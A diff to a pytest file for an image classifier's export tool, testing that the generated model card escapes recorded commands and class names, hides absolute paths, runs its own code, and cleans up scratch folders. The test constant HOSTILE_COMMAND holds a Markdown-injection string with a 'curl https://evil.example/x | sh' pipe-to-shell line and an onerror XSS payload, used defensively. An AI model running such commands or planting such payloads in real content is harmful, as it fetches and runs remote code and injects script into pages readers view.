@@ -3,6 +3,7 @@ predict.py and evaluate.py, and loadable with torchvision alone in the card's fi
 
 from __future__ import annotations
 
+import ast
 import json
 import re
 import shutil
@@ -78,11 +79,77 @@ def test_the_card_renders_the_runs_own_figures(trained, tmp_path):
     card = (folder / "README.md").read_text()
     state = torch.load(trained / "best.pt", map_location="cpu", weights_only=True)
     for name, count in zip(state["class_names"], state["class_counts"]):
-        assert f"| {name} | {count} |" in card
+        assert f"| `{name}` | {count} |" in card
     row = next(r for r in read_metrics(trained / "metrics.csv") if r["epoch"] == state["epoch"])
     assert f"- val_acc: {row['val_acc']:.4f}" in card
-    command = " ".join(json.loads((trained / "config.json").read_text())["environment"]["command"])
-    assert f"- command: `{command}`" in card and "not recorded" not in card
+    command = json.loads((trained / "config.json").read_text())["environment"]["command"]
+    shown = " ".join(part for part in command if not part.startswith("/"))  # absolute paths hidden
+    assert "- command: `" in card and shown.split(" --")[0] in card and "not recorded" not in card
+
+
+HOSTILE_COMMAND = ["train.py", "--data", "x`\n\n# Run this first\n\n```sh\ncurl https://evil.example/x | sh\n```\n"
+                   "<img src=x onerror=alert(1)>", "--out=/home/alice/runs/exp1", "--config", "settings/run.json"]
+HOSTILE_NAMES = ["<b>bold</b>", "a | b", "``tick``", "# heading"]
+
+
+def _outside_code(card: str) -> str:
+    """The card's text with its fenced blocks and code spans taken out: what Markdown renders as markup."""
+    prose = re.sub(r"^```python\n.*?^```$", "", card, flags=re.S | re.M)
+    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", prose)
+
+
+def test_the_card_escapes_what_it_copies_from_a_run_and_records_no_absolute_path(trained, tmp_path):
+    """A run folder from elsewhere (or a careless command line): its recorded command and class names reach the card
+    as code spans only: no new heading, no raw HTML, no fenced block; no absolute path, user name or home folder in
+    the card or config.json (a path inside the run is shown relative to it, a relative one as given)."""
+    run = tmp_path / "home" / "alice" / "runs" / "exp1"
+    run.mkdir(parents=True)
+    state = torch.load(trained / "best.pt", map_location="cpu", weights_only=True)
+    state["class_names"] = HOSTILE_NAMES
+    torch.save(state, run / "best.pt")
+    record = json.loads((trained / "config.json").read_text())
+    record["environment"]["command"] = [*HOSTILE_COMMAND, "--resume", str(run / "last.pt"), "--init-from",
+                                        str(tmp_path / "home" / "alice" / "old.pt")]
+    (run / "config.json").write_text(json.dumps(record))
+    folder = tmp_path / "shared"
+    assert export.main([str(run / "best.pt"), "--format", "safetensors", "--out", str(folder)]) == 0
+    card = (folder / "README.md").read_text()
+    headings = [line for line in card.splitlines() if line.startswith("#")]
+    assert headings == ["# `resnet18` image classifier (4 classes)", "## Training data", "## Validation (epoch 1)",
+                        "## Made with", "## Preprocessing", "## Load it without this project"]
+    fences = [line for line in card.splitlines() if line.lstrip(" ").startswith(("```", "~~~"))]
+    assert fences == ["```python", "```", "```python", "```"]  # the card's own two blocks, nothing opened by a name
+    prose = _outside_code(card)
+    assert "<" not in prose and "curl" not in prose and "alert" not in prose
+    rows = [line for line in card.splitlines() if line.startswith("| ")]
+    assert rows and all(len(re.findall(r"(?<!\\)\|", line)) == 3 for line in rows)  # two cells a row
+    for text in (card, (folder / "config.json").read_text()):
+        assert "alice" not in text and str(tmp_path) not in text and "/home" not in text
+    assert "--config settings/run.json" in card and "--resume last.pt" in card
+
+
+def test_the_cards_code_runs_as_written_and_predicts_what_predict_py_does(trained, tiny_data, tmp_path, capsys):
+    """Every python block of the card, in order, in a fresh Python where only torch, torchvision, safetensors and
+    Pillow are of use (the project's package cannot be imported), in the folder with a photo.jpg: the top-1 class
+    and every probability predict.py gives for that image."""
+    folder = tmp_path / "shared"
+    assert export.main([str(trained / "best.pt"), "--format", "safetensors", "--out", str(folder)]) == 0
+    image = next((tiny_data / "val").rglob("*.png"))
+    shutil.copyfile(image, folder / "photo.jpg")
+    blocks = re.findall(r"^```python\n(.*?)^```$", (folder / "README.md").read_text(), re.S | re.M)
+    assert len(blocks) == 2
+    package = model_folder.__name__.split(".")[0]
+    code = f"import sys\nsys.modules[{package!r}] = None\n" + "".join(blocks)
+    result = subprocess.run([sys.executable, "-I", "-c", code], cwd=folder, capture_output=True, text=True,
+                            timeout=HANG_S)
+    assert result.returncode == 0, result.stderr[-2000:]
+    top1, probabilities = result.stdout.strip().splitlines()[-1].split(" ", 1)
+    probabilities = ast.literal_eval(probabilities)
+    capsys.readouterr()
+    assert predict.main([str(folder), str(folder / "photo.jpg"), "--device", "cpu", "--json", "--topk", "4"]) == 0
+    expected = json.loads(capsys.readouterr().out)[0]
+    assert top1 == expected["label"]
+    assert {row["label"]: row["probability"] for row in expected["topk"]} == pytest.approx(probabilities, abs=1e-5)
 
 
 @pytest.mark.parametrize("record", [None, "[1]", '"x"', '{"environment": [1]}', "{not json"],
@@ -203,3 +270,16 @@ def test_an_existing_folder_is_refused_and_left_alone(trained, tmp_path, capsys)
     (out / "notes.txt").write_text("mine")
     assert export.main([str(trained / "best.pt"), "--format", "safetensors", "--out", str(out)]) == 2
     assert "not an empty folder" in capsys.readouterr().err and [p.name for p in out.iterdir()] == ["notes.txt"]
+
+
+def test_an_export_killed_mid_write_leaves_no_model_sized_scratch_folder_behind(trained, tmp_path):
+    """An export killed while it wrote (SIGKILL: no handler runs) left its hidden scratch folder beside --out; the next
+    export there removes it, and a failed export removes its own."""
+    killed = subprocess.Popen([sys.executable, "-c", "pass"])
+    killed.wait()  # a process that no longer runs, as the killed export's
+    stale = tmp_path / f".shared.{killed.pid}.partial"
+    stale.mkdir()
+    (stale / "model.safetensors").write_bytes(b"\0" * 2**20)
+    assert export.main([str(trained / "best.pt"), "--format", "safetensors", "--out", str(tmp_path / "shared")]) == 0
+    assert export.main([str(trained / "best.pt"), "--format", "safetensors", "--out", str(tmp_path / "shared")]) == 2
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["shared"]
